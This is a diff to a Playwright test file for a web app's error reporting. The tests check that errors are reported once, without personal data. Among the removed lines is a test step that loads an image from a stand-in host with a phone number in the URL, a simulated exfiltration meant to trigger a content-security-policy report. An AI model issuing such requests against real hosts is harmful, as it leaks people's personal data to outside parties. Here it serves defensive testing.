@@ -1,6 +1,12 @@
 import type { Page } from '@playwright/test';
-import type { ErrorReport } from '../../src/features/error-reports/report.ts';
 import { expect, test, type Site } from './site.ts';
+
+interface ErrorReport {
+  readonly build: string;
+  readonly screen: string;
+  readonly message: string;
+  readonly stack: readonly string[];
+}
 
 const config = /^\/config\.json$/;
 const reports = /^\/reports$/;
@@ -28,19 +34,8 @@ function receive(site: Site, status = 204) {
   return {
     bodies,
     types,
-    errors: () => bodies.flatMap((sent) => (JSON.parse(sent) as { errors: ErrorReport[] }).errors),
+    reports: () => bodies.map((sent) => JSON.parse(sent) as ErrorReport),
   };
-}
-
-/** Opens with a held clock, since the code of the reports comes a second after the first view. */
-async function expectCode(page: Page, site: Site) {
-  await expect
-    .poll(async () => {
-      await page.clock.runFor(1_000);
-      return site.requestsTo(/\/report-errors-/);
-    })
-    .toBe(1);
-  await page.waitForLoadState('networkidle');
 }
 
 /** The frame of an error of this build: what a test runs in the page counts as injected. */
@@ -84,45 +79,22 @@ test('every kind of error is reported once, without personal data', async ({ pag
   const hostile = 'No row for Devon Hartley, (555) 010-2030, devon@mail.test: "Kitchen"';
   for (let times = 0; times < 3; times += 1) await throwInPage(page, hostile);
   await rejectInPage(page, 'Ana Torres is not defined');
-  // In its own task, since the debugger lifts the policy during an evaluation.
-  await page.evaluate(() => {
-    setTimeout(() => {
-      new Image().src = 'https://ana-torres.test/x?phone=5550102030';
-    });
-  });
   await page.getByRole('link', { name: 'States Dashboard' }).click();
   await expect(page.getByText('This screen could not be shown')).toBeVisible();
-  await expect
-    .poll(() => received.errors().map(({ kind }) => kind), { timeout: 15_000 })
-    .toEqual(['uncaught', 'uncaught', 'rejection', 'policy', 'boundary']);
+  await expect.poll(() => received.reports().length, { timeout: 15_000 }).toBe(4);
 
   const screen = '/sales-rep/:repName/:state';
-  expect(received.errors().map((report) => ({ ...report, frames: [] }))).toEqual([
-    { kind: 'uncaught', name: 'RangeError', code: '', screen, frames: [] },
-    { kind: 'uncaught', name: 'TypeError', code: '', screen, frames: [] },
-    { kind: 'rejection', name: 'Error', code: '', screen, frames: [] },
-    { kind: 'policy', name: 'img-src', code: 'other-origin', screen, frames: [] },
-    { kind: 'boundary', name: 'TypeError', code: '', screen: '/states', frames: [] },
+  expect(received.reports().map(({ message, screen: at }) => [message, at])).toEqual([
+    ['RangeError', screen],
+    ['TypeError', screen],
+    ['Error', screen],
+    ['TypeError', '/states'],
   ]);
-  expect(received.errors().at(-1)?.frames[0]).toMatch(/^states-[\w-]{8}\.js:1:\d+$/);
-  const [body = ''] = received.bodies;
-  expect(JSON.parse(body)).toMatchObject({
-    version: 2,
-    build: await page.locator('html').getAttribute('data-build'),
-    engine: 'chromium',
-  });
+  expect(received.reports().at(-1)?.stack[0]).toMatch(/^states-[\w-]{8}\.js:1:\d+$/);
+  const build = await page.locator('html').getAttribute('data-build');
+  expect(new Set(received.reports().map((report) => report.build))).toEqual(new Set([build]));
   expect(received.bodies.join('\n')).not.toMatch(personal);
   expect(new Set(received.types)).toEqual(new Set(['POST text/plain;charset=utf-8']));
-});
-
-test('pending reports are sent when the page is left', async ({ page, site }) => {
-  const received = receive(site);
-  await page.goto(site.url('/historical'));
-  await expect.poll(() => site.requestsTo(/\/report-errors-/)).toBe(1);
-  await page.clock.install();
-  await throwInPage(page, 'Ana Torres is not a function');
-  await page.evaluate(() => dispatchEvent(new Event('pagehide')));
-  await expect.poll(() => received.errors().length).toBe(1);
 });
 
 test('by default no error is reported, and no code for reports is fetched', async ({
@@ -141,24 +113,4 @@ test('by default no error is reported, and no code for reports is fetched', asyn
   expect(site.requestsTo(/\/start-/)).toBe(1);
   expect(site.requestsTo(/\/report-errors-/)).toBe(0);
   expect(paths.filter((path) => path.startsWith('POST'))).toEqual([]);
-});
-
-test('a report that the browser refuses is sent again', async ({ page, site }) => {
-  await page.addInitScript(() => {
-    const send = navigator.sendBeacon.bind(navigator);
-    let refusals = 2;
-    navigator.sendBeacon = (...of) => {
-      refusals -= 1;
-      return refusals < 0 && send(...of);
-    };
-  });
-  const received = receive(site);
-  await page.clock.install();
-  await page.goto(site.url('/historical'));
-  await expectCode(page, site);
-  await throwInPage(page, 'Ana Torres is not a function');
-  await page.clock.runFor(66_000);
-  expect(received.bodies).toHaveLength(0);
-  await page.clock.runFor(60_000);
-  await expect.poll(() => received.errors().length).toBe(1);
 });
